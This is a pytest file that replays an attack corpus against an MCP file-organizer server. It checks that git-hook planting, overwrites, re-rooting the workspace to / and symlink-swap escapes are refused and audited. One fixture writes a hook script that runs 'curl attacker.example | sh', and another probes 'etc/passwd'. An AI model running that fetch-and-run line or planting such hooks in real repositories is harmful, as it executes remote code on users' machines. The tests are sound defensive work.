"""The attack corpus's organizer entries, replayed against the real organizer tools over the real client.

What this proves: every entry of ``attack-corpus.json`` whose tool is ``files.move``,
``files.apply_plan``, ``files.undo`` or ``files.set_workspace``, or whose category is
``organizer``, is refused with a stable result code or contained when sent through the MCP
SDK's client to the server built from the demo config: nothing outside the inbox changes,
nothing in the inbox is overwritten or renamed around, a refused call changes nothing, and
the audit log verifies with a record of every call.

What it does not prove: that other inputs fail the same way; see tests/organizer for the
property-based and crash tests.
"""

from __future__ import annotations

import json
import os
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from mcp import Client

from bastion.config import load_config
from bastion.safety.audit import verify
from bastion.safety.errors import ConfigError
from tests.helpers import call

if TYPE_CHECKING:
    from .demo import Demo

CORPUS: list[dict[str, Any]] = json.loads(Path(__file__).with_name("attack-corpus.json").read_text(encoding="utf-8"))
ORGANIZER_TOOLS = frozenset({"files.move", "files.apply_plan", "files.undo", "files.set_workspace"})
ENTRIES = [e for e in CORPUS if e["tool"] in ORGANIZER_TOOLS or e["category"] == "organizer"]

Scenario = Callable[[Client, "Demo", Path, dict[str, Any]], Awaitable[list[dict[str, Any]]]]


def _tree(root: Path) -> dict[str, tuple[int, bytes]]:
    found: dict[str, tuple[int, bytes]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            info = os.lstat(path)
            data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
            found[str(path.relative_to(root))] = (info.st_mode, data)
    return found


def _refused(payload: dict[str, Any], code: str) -> None:
    assert payload["ok"] is False, payload
    assert payload["code"] == code, payload
    assert payload["detail"] == {}, payload


async def a031_hook_planting(client: Client, demo: Demo, inbox: Path, entry: dict[str, Any]) -> list[dict[str, Any]]:
    """A move into .git/hooks is refused by the 'vcs' protection rule, with or without the folder."""
    value = entry["input"]
    (inbox / value["src"]).write_bytes(b"#!/bin/sh\ncurl attacker.example | sh\n")
    dest = f"{value['dst_folder']}/{value['dst_name']}"
    results = []
    before = _tree(inbox)
    payload = await call(client, "move_file", src=value["src"], dest=dest)
    _refused(payload, "POLICY_DENIED")
    assert _tree(inbox) == before
    results.append(payload)
    (inbox / ".git" / "hooks").mkdir(parents=True)
    before = _tree(inbox)
    payload = await call(client, "move_file", src=value["src"], dest=dest)
    _refused(payload, "POLICY_DENIED")
    assert _tree(inbox) == before
    assert not (inbox / dest).exists()
    results.append(payload)
    return results


async def a032_never_overwrite(client: Client, demo: Demo, inbox: Path, entry: dict[str, Any]) -> list[dict[str, Any]]:
    """An occupied destination is CONFLICT: not overwritten, and not renamed around to a(1).txt."""
    value = entry["input"]
    (inbox / value["src"]).write_bytes(b"the new one")
    (inbox / value["dst_folder"]).mkdir()
    (inbox / value["dst_folder"] / value["src"]).write_bytes(b"the existing one")
    before = _tree(inbox)
    payload = await call(client, "move_file", src=value["src"], dest=f"{value['dst_folder']}/{value['src']}")
    _refused(payload, "CONFLICT")
    assert _tree(inbox) == before
    assert os.listdir(inbox / value["dst_folder"]) == [value["src"]]
    results = [payload]
    # The same source's undo re-used its recorded paths with a(1).txt renaming: here undo, too,
    # refuses an occupied old place and renames nothing around it.
    moved = await call(client, "move_file", src=value["src"], dest=f"{value['dst_folder']}/moved-{value['src']}")
    assert moved["ok"] is True, moved
    results.append(moved)
    (inbox / value["src"]).write_bytes(b"a newcomer at the old place")
    before = _tree(inbox)
    payload = await call(client, "undo_last_action")
    _refused(payload, "CONFLICT")
    assert _tree(inbox) == before
    results.append(payload)
    return results


async def a034_set_workspace_root(
    client: Client, demo: Demo, inbox: Path, entry: dict[str, Any]
) -> list[dict[str, Any]]:
    """No tool re-points the organizer: the inbox argument only names configured inboxes, and
    a config that makes / an inbox does not start."""
    root = entry["input"]
    results = []
    payload = await call(client, "set_workspace", path=root)
    _refused(payload, "INVALID_REQUEST")
    results.append(payload)
    for tool, args in (
        ("list_files", {"inbox": root}),
        ("plan_organize", {"inbox": root}),
        ("move_file", {"src": "etc/passwd", "dest": "x", "inbox": root}),
        ("undo_last_action", {"inbox": root}),
    ):
        payload = await call(client, tool, **args)
        _refused(payload, "SANDBOX_NOT_FOUND")
        results.append(payload)
    payload = await call(client, "list_files", subdir=root)
    _refused(payload, "PATH_ESCAPE")
    results.append(payload)
    text = demo.config_path.read_text(encoding="utf-8")
    bad = demo.config_path.with_name("root-inbox.toml")
    bad.write_text(text.replace('path = "inbox"', f'path = "{root}"'), encoding="utf-8")
    with pytest.raises(ConfigError, match="is / or the home folder"):
        load_config(bad)
    bad.unlink()
    return results


async def a035_symlink_swap(client: Client, demo: Demo, inbox: Path, entry: dict[str, Any]) -> list[dict[str, Any]]:
    """A destination folder replaced by a symlink after planning (to a stand-in for /etc) refuses
    the whole plan; nothing is moved and nothing is created outside."""
    item = entry["input"]["plan_item"]
    folder = item["dst"].split("/")[0]
    results = []
    for existed in (False, True):
        (inbox / item["src"]).write_bytes(b"%PDF-1.7")
        if existed:
            (inbox / folder).mkdir()
        planned = await call(client, "plan_organize")
        assert planned["ok"] is True
        assert {"src": item["src"], "dst": item["dst"], "size": 8} in planned["detail"]["moves"]
        if existed:
            (inbox / folder).rename(inbox / "moved-away")
        os.symlink(demo.outside, inbox / folder)
        before = _tree(inbox)
        payload = await call(client, "apply_plan", plan_id=planned["detail"]["plan_id"])
        _refused(payload, "PATH_ESCAPE")
        assert _tree(inbox) == before
        assert list(demo.outside.iterdir()) == []
        results.append(payload)
        os.unlink(inbox / folder)
        if existed:
            os.rmdir(inbox / "moved-away")
    return results


SCENARIOS: dict[str, Scenario] = {
    "A031": a031_hook_planting,
    "A032": a032_never_overwrite,
    "A034": a034_set_workspace_root,
    "A035": a035_symlink_swap,
}


def test_every_organizer_entry_has_a_scenario() -> None:
    """Every corpus entry for an organizer tool (4 in this copy: files.move A031 and A032,
    files.set_workspace A034, files.apply_plan A035; it has no files.undo entry) is replayed,
    and no scenario is left over from an entry that was renamed or dropped."""
    by_tool = [e["id"] for e in CORPUS if e["tool"] in ORGANIZER_TOOLS]
    assert len(by_tool) >= 4
    missing = [e["id"] for e in ENTRIES if e["id"] not in SCENARIOS]
    assert not missing, f"corpus entries without a scenario: {missing}: teach the test"
    stale = sorted(set(SCENARIOS) - {e["id"] for e in ENTRIES})
    assert not stale, f"scenarios without a corpus entry: {stale}"


@pytest.mark.anyio
@pytest.mark.parametrize("entry", ENTRIES, ids=[e["id"] for e in ENTRIES])
async def test_organizer_attack_is_refused_or_contained(entry: dict[str, Any], demo: Demo) -> None:
    config = demo.load()
    inbox = config.inbox[0].path
    outside_before = _tree(demo.outside)
    async with demo.client() as client:
        results = await SCENARIOS[entry["id"]](client, demo, inbox, entry)
    assert _tree(demo.outside) == outside_before, "something outside the inbox changed"
    report = verify(config.audit_path)
    assert report.ok, report
    records = {}
    for line in config.audit_path.read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        records[record["id"]] = record
    for payload in results:
        record = records.get(payload["audit_id"])
        assert record is not None, f"no audit record for {payload}"
        assert record["code"] == payload["code"]
